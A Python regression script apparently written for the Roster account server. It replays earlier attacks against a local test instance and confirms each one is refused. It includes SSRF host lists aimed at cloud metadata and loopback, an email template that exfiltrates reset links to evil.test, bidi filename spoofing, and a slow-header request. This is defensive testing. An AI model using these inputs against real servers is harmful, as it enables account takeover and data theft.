#!/usr/bin/env python3
"""Replays the attacks of issue 14, and checks the shapes of issue 15, against a running Roster from
outside, as an attacker would,
with the names of API.md. Standard library only. One line per attack; exits 1 at the first that
is not stopped.

The server must run with open registration, mail to this script's SMTP catcher, and the loopback
trusted as a proxy (so the script can speak from several client addresses):

    python3 scripts/attack-smoke.py --serve target/debug/roster

starts such a server itself on a fresh SQLite database (an operator made by `roster operator
create`), or point it at one you started: `--url URL --smtp-port N --operator EMAIL:PASSWORD`.
"""
import argparse
import email
import email.policy
import json
import os
import re
import socket
import socketserver
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request

MAIL = []  # (rcpt list, data)
PASSWORD = "amber meadow compass 42"


class Smtp(socketserver.StreamRequestHandler):
    """Just enough SMTP for lettre: EHLO, MAIL, RCPT, DATA, RSET, NOOP, QUIT."""

    def handle(self):
        w = lambda s: self.wfile.write((s + "\r\n").encode())
        w("220 catcher ESMTP")
        rcpt = []
        while True:
            line = self.rfile.readline().decode(errors="replace").rstrip("\r\n")
            if not line:
                return
            verb = line[:4].upper()
            if verb in ("EHLO", "HELO"):
                w("250 catcher")
            elif verb == "MAIL":
                rcpt = []
                w("250 ok")
            elif verb == "RCPT":
                rcpt.append(line.split(":", 1)[1].strip(" <>"))
                w("250 ok")
            elif verb == "DATA":
                w("354 go")
                lines = []
                while True:
                    l = self.rfile.readline().decode(errors="replace").rstrip("\r\n")
                    if l == ".":
                        break
                    lines.append(l[1:] if l.startswith("..") else l)
                MAIL.append((rcpt, "\n".join(lines)))
                w("250 queued")
            elif verb == "QUIT":
                w("221 bye")
                return
            else:
                w("250 ok")


def start_catcher():
    srv = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Smtp)
    srv.daemon_threads = True
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv.server_address[1]


class Client:
    def __init__(self, base, ip):
        self.base, self.ip = base, ip

    def call(self, method, path, token=None, body=None, headers=None):
        data = json.dumps(body).encode() if body is not None else None
        req = urllib.request.Request(self.base + path, data=data, method=method)
        req.add_header("x-forwarded-for", self.ip)
        if data is not None:
            req.add_header("content-type", "application/json")
        if token:
            req.add_header("authorization", "Bearer " + token)
        for k, v in (headers or {}).items():
            req.add_header(k, v)
        try:
            with urllib.request.urlopen(req) as res:
                text, status, hdrs = res.read().decode(), res.status, res.headers
        except urllib.error.HTTPError as e:
            text, status, hdrs = e.read().decode(), e.code, e.headers
        body = json.loads(text) if "json" in hdrs.get("content-type", "") and text else text
        return status, body, hdrs

    def token(self, login, password):
        s, b, _ = self.call("POST", "/api/v1/auth/token", body={"login": login, "password": password})
        return b["access_token"] if s == 200 else None


def check(name, ok, detail=""):
    print(("ok      " if "setup:" in name else "stopped " if ok else "OPEN    ") + name + (f"  ({detail})" if detail and not ok else ""))
    if not ok:
        sys.exit(1)


def text_of(data):
    msg = email.message_from_string(data, policy=email.policy.default)
    return "\n".join(p.get_content() for p in msg.walk() if p.get_content_type() == "text/plain")


def wait_mail(rcpt, pattern, timeout=15):
    end = time.time() + timeout
    while time.time() < end:
        for to, data in MAIL:
            if rcpt in to:
                m = re.search(pattern, text_of(data))
                if m:
                    return m.group(0)
        time.sleep(0.2)
    return None


def register(c, email, account):
    body = {"email": email, "password": PASSWORD, "first_name": "Mal", "last_name": "Lory", "account_name": account}
    return c.call("POST", "/api/v1/auth/register", body=body)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--serve", help="path of the roster binary to start on a fresh database")
    ap.add_argument("--url")
    ap.add_argument("--smtp-port", type=int)
    ap.add_argument("--operator", default="operator@victim.test:" + PASSWORD)
    args = ap.parse_args()
    op_email, op_password = args.operator.split(":", 1)
    port = args.smtp_port or start_catcher()
    proc = None
    if args.serve:
        data = tempfile.mkdtemp(prefix="roster-attack-")
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        listen = sock.getsockname()[1]
        sock.close()
        env = dict(os.environ, ROSTER_DATA_DIR=data, ROSTER_LISTEN=f"127.0.0.1:{listen}",
                   ROSTER_OPEN_REGISTRATION="true", ROSTER_SMTP_URL=f"smtp://127.0.0.1:{port}?tls=none",
                   ROSTER_TRUSTED_PROXIES="127.0.0.1/32", ROSTER_LOG="warn")
        subprocess.run([args.serve, "operator", "create", "--email", op_email, "--first-name", "Olive",
                        "--last-name", "Operator"], input=op_password.encode(), env=env, check=True,
                       stdout=subprocess.DEVNULL)
        proc = subprocess.Popen([args.serve, "serve"], env=env, stdout=subprocess.DEVNULL)
        args.url = f"http://127.0.0.1:{listen}"
        for _ in range(100):
            try:
                urllib.request.urlopen(args.url + "/readyz")
                break
            except Exception:
                time.sleep(0.1)
    try:
        run(args.url.rstrip("/"), op_email, op_password)
    finally:
        if proc:
            proc.terminate()


def run(base, op_email, op_password):
    attacker = Client(base, "203.0.113.5")
    victim_side = Client(base, "198.51.100.7")

    # 10. Registration tells nobody who has a login; 1/3. a login exists only once its address is proved.
    s_new, b_new, _ = register(attacker, "mallory@evil.test", "Mallory Ltd")
    s_taken, b_taken, _ = register(attacker, op_email, "Mallory Ltd")
    check("10 registration answers alike for new and taken addresses",
          s_new == s_taken == 202 and b_new == b_taken, f"{s_new} {b_new} / {s_taken} {b_taken}")
    link = wait_mail("mallory@evil.test", r"confirm-email\?token=[A-Za-z0-9_]+")
    check("R-AUTH-8 confirmation mail reaches the address", link is not None)
    tok = link.split("token=")[1]
    s, b, _ = victim_side.call("POST", "/api/v1/auth/confirm-email", body={"token": tok, "password": "not the registrants 42"})
    check("3 a confirmation link makes no login without the registrant's password", s == 422, f"{s} {b}")
    s, b, _ = attacker.call("POST", "/api/v1/auth/confirm-email", body={"token": tok, "password": PASSWORD})
    check("R-AUTH-8 confirming the address makes the login and account", s == 200, f"{s} {b}")
    s, b, _ = attacker.call("POST", "/api/v1/auth/confirm-email", body={"token": tok, "password": PASSWORD})
    check("R-AUTH-8 a confirmation link is single use", s == 410, f"{s} {b}")
    mal = attacker.token("mallory@evil.test", PASSWORD)
    s, me, hdrs = attacker.call("GET", "/api/v1/me", mal)
    check("10 signed-in answers carry Cache-Control: no-store", "no-store" in hdrs.get("cache-control", ""))
    m = me["memberships"][0]["account"]["id"] if "account" in me["memberships"][0] else me["memberships"][0]["account_id"]

    # 1/2. Adding the operator's email to M: an invitation, nothing of the login.
    s, b, _ = attacker.call("POST", f"/api/v1/accounts/{m}/users", mal,
                            {"email": op_email, "first_name": "X", "last_name": "Y", "role": "admin"})
    leaked = "Olive" in json.dumps(b) or "Operator" in json.dumps(b)
    check("1/2 adding a known login sends an invitation and shows nothing of it", s == 202 and not leaked, f"{s} {b}")
    s, b, _ = attacker.call("GET", f"/api/v1/accounts/{m}/users?q={op_email}", mal)
    victims = [u for u in b.get("items", []) if u.get("email") == op_email]
    check("1 the operator did not join M", s == 200 and not victims, f"{s} {b}")
    s, b, _ = attacker.call("GET", f"/api/v1/accounts/{m}/emails", mal)
    bodies = [attacker.call("GET", f"/api/v1/accounts/{m}/emails/{e['id']}", mal)[1] for e in b.get("items", [])]
    seen = json.dumps(b) + json.dumps(bodies)
    check("3 the outbox hides invitation links (list and each email)",
          s == 200 and bodies and "inv_" not in seen and "[link hidden]" in seen, f"{s} {seen[:300]}")
    op = victim_side.token(op_email, op_password)
    s, me_op, _ = victim_side.call("GET", "/api/v1/me", op)
    s, b, _ = attacker.call("POST", f"/api/v1/accounts/{m}/users/{me_op['user']['id']}/password-reset", mal)
    check("1 M cannot send a reset to a login that is not its member", s == 404, f"{s} {b}")
    check("1 the operator still signs in with their own password",
          victim_side.token(op_email, op_password) is not None)

    # 3. Squatting: an unconfirmed registration makes no login.
    register(attacker, "newhire@b.test", "Squat")
    check("3 an unconfirmed registration makes no login", attacker.token("newhire@b.test", PASSWORD) is None)

    # 5. SSRF through the account's SMTP server.
    for host, port in [("127.0.0.1", 22), ("169.254.169.254", 25), ("0.0.0.0", 25), ("127.1", 25),
                       ("localhost", 25), ("example.com", 22)]:
        s, b, _ = attacker.call("PUT", f"/api/v1/accounts/{m}/smtp", mal,
                                {"host": host, "port": port, "security": "none", "from_email": "m@evil.test"})
        check(f"5 account SMTP {host}:{port} refused", s == 422, f"{s} {b}")

    # 7. Test emails only to one's own proved address; bulk invitations bounded.
    s, b, _ = attacker.call("POST", f"/api/v1/accounts/{m}/smtp/test", mal, {"to": "someone@else.test"})
    check("7 a test email cannot go to another address", s in (404, 409, 422), f"{s} {b}")
    rows = [{"email": f"spam{i}@else.test", "role": "customer"} for i in range(201)]
    s, b, _ = attacker.call("POST", f"/api/v1/accounts/{m}/invitations/bulk", mal, rows)
    check("7 201 bulk invitations in one request refused", s == 429, f"{s}")

    # 4. A lesser admin cannot set a greater one's password.
    s, role, _ = attacker.call("POST", f"/api/v1/accounts/{m}/roles", mal,
                               {"name": "Helpdesk", "permissions": ["users.view", "users.manage"]})
    check("4 setup: a custom role", s == 201, f"{s} {role}")
    for email, r in [("lesser@evil.test", role["id"]), ("boss@evil.test", "admin")]:
        s, b, _ = attacker.call("POST", f"/api/v1/accounts/{m}/users", mal,
                                {"email": email, "first_name": "A", "last_name": "B", "role": r,
                                 "password": PASSWORD, "send_welcome": False})
        check(f"4 setup: member {email}", s == 201, f"{s} {b}")
        if email.startswith("boss"):
            boss = b["user_id"]
    lesser = attacker.token("lesser@evil.test", PASSWORD)
    s, b, _ = attacker.call("POST", f"/api/v1/accounts/{m}/users/{boss}/password", lesser, {"password": "x" + PASSWORD})
    check("4 set-password of someone holding more rights refused", s == 403, f"{s} {b}")
    s, b, _ = attacker.call("POST", f"/api/v1/accounts/{m}/users/{boss}/password-reset", lesser)
    check("4 send-reset to someone holding more rights refused", s == 403, f"{s} {b}")

    # Review finding A: a member with account.settings but fewer rights cannot redirect secrets.
    s, office, _ = attacker.call("POST", f"/api/v1/accounts/{m}/roles", mal,
                                 {"name": "Office", "permissions": ["account.settings", "users.view"]})
    s, b, _ = attacker.call("POST", f"/api/v1/accounts/{m}/users", mal,
                            {"email": "office@evil.test", "first_name": "O", "last_name": "Z", "role": office["id"],
                             "password": PASSWORD, "send_welcome": False})
    check("R-PERM-1 setup: a settings-only member", s == 201, f"{s} {b}")
    oz = attacker.token("office@evil.test", PASSWORD)
    evil = {"subject": "Reset", "text": "{{ link }}", "html": "<img src=\"https://evil.test/?{{ link }}\">"}
    s, b, _ = attacker.call("PUT", f"/api/v1/accounts/{m}/email-templates/password_reset", oz, evil)
    check("R-PERM-1 a settings-only member cannot rewrite a link-carrying template", s == 403, f"{s} {b}")

    # 6. A personal token made in M does not reach the person's other account.
    s, pat, _ = attacker.call("POST", "/api/v1/tokens", mal, {"name": "ci"})
    check("6 setup: a personal token in M", s == 201, f"{s} {pat}")
    s, other, _ = attacker.call("POST", "/api/v1/accounts", mal, {"name": "Mallory Two"})
    check("6 setup: a second account", s == 201, f"{s} {other}")
    secret = pat.get("token") or pat.get("secret") or pat.get("access_token")
    s, b, _ = attacker.call("GET", f"/api/v1/accounts/{other['id']}/users", secret)
    check("6 a token made in one account cannot read another", s in (403, 404), f"{s}")

    # 9. Five wrong guesses by a stranger do not lock the operator out.
    for _ in range(6):
        attacker.call("POST", "/api/v1/auth/token", body={"login": op_email, "password": "wrong guess 12345"})
    check("9 a stranger's failures do not block the victim's correct password",
          victim_side.token(op_email, op_password) is not None)

    # 10. Bidi characters in names.
    s, b, _ = attacker.call("POST", "/api/v1/accounts", mal, {"name": "Acme\u202egnp.exe"})
    check("10 a bidi control in a name is refused", s == 422, f"{s} {b}")

    # 8. Half a request line does not hold a connection forever.
    host, port = base.split("//")[1].split(":")
    conn = socket.create_connection((host, int(port)))
    conn.sendall(b"GET /healthz HT")
    conn.settimeout(40)
    t = time.time()
    try:
        closed = conn.recv(1024) is not None
    except socket.timeout:
        closed = False
    check("8 a half-sent request is closed by the header timeout", closed, f"after {time.time() - t:.0f} s")
    # 10. Operators do not read users' secret links either.
    victim_side.call("POST", "/api/v1/auth/password-reset", body={"email": "mallory@evil.test"})
    s, b, _ = victim_side.call("GET", "/api/v1/emails", op)
    seen = json.dumps(b)
    check("10 the operator's outbox view hides reset and confirmation links",
          s == 200 and "reset_" not in seen and "confirm_" not in seen and "inv_" not in seen, f"{s}")
    print("every attack of issue 14 replayed here was stopped")

    # Issue 15: the shapes a client relies on, from outside, with the names of API.md.
    req = urllib.request.Request(base + f"/api/v1/accounts/{m}/users", data=b'{"email": "half@exa', method="POST")
    req.add_header("content-type", "application/json")
    req.add_header("authorization", "Bearer " + mal)
    req.add_header("x-forwarded-for", attacker.ip)
    try:
        urllib.request.urlopen(req)
        s, b = 200, {}
    except urllib.error.HTTPError as e:
        s, b = e.code, json.loads(e.read().decode())
    check("15 a cut-off JSON body is 400 malformed_json", s == 400 and b.get("code") == "malformed_json", f"{s} {b}")
    for path in ["/api/v1/tokens", f"/api/v1/accounts/{m}/roles", f"/api/v1/accounts/{m}/users"]:
        s, b, _ = attacker.call("GET", path, mal)
        check(f"15 {path} answers {{items, next_cursor}}", s == 200 and "items" in b and "next_cursor" in b, f"{s} {b}")
    s, b, _ = attacker.call("GET", f"/api/v1/accounts/{m}/audit?action=member.teleported", mal)
    check("15 an unknown audit action is 422 naming action",
          s == 422 and "action" in json.dumps(b.get("errors", b)), f"{s} {b}")
    s, doc, _ = attacker.call("GET", "/api/v1/openapi.json")
    schemas = doc.get("components", {}).get("schemas", {})
    check("15 OpenAPI lists the problem codes and audit actions",
          "ProblemCode" in schemas and "AuditAction" in schemas and "access_disabled" in json.dumps(schemas["ProblemCode"]))
    s, b, _ = attacker.call("POST", f"/api/v1/accounts/{m}/users", mal,
                            {"email": "sam@mallory.test", "first_name": "Sam", "last_name": "Staff", "role": "standard"})
    check("15 setup: a member of M", s == 201, f"{s} {b}")
    sam = b["user"]["id"] if "user" in b else b.get("user_id", b.get("id"))
    s, b, _ = attacker.call("PATCH", f"/api/v1/accounts/{m}/users/{sam}", mal,
                            {"first_name": "Samuel", "company": "Quarry", "username": "samq"})
    check("15 PATCH a member's name, company and username", s == 200 and b.get("first_name") == "Samuel", f"{s} {b}")
    s, b, _ = attacker.call("PATCH", f"/api/v1/accounts/{m}/users/{sam}", mal, {"email": "mallory2@evil.test"})
    check("15 a member's email is not editable (the login would go to the new address)", s == 422, f"{s} {b}")
    s, b, _ = attacker.call("PATCH", f"/api/v1/accounts/{m}/users/{me_op['user']['id']}", mal, {"first_name": "Owned"})
    check("15 M cannot rename a login that is not its member", s == 404, f"{s} {b}")
    print("issue 15's shapes hold from outside")


if __name__ == "__main__":
    main()
